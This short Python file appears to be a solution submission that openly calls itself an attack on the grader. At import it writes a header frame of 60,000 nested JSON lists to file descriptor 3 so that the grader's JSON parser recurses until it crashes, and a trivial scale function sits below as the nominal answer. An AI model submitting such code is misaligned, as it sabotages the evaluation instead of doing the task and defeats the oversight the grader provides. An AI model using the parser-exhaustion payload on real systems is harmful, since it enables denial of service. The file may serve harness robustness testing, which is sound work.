"""Attack: a header frame of 60,000 nested JSON lists, to make the grader's JSON parser recurse
until RecursionError."""
import os
import struct

NAMES = ["a", "b"]
payload = b'{"type": "case", "name": "scale \\u00b7 small", "meta": {"x": ' + b"[" * 60000
payload += b"]" * 60000 + b"}}"
os.write(3, struct.pack(">cI", b"H", len(payload)) + payload)


def scale(x, k):
    return x * k
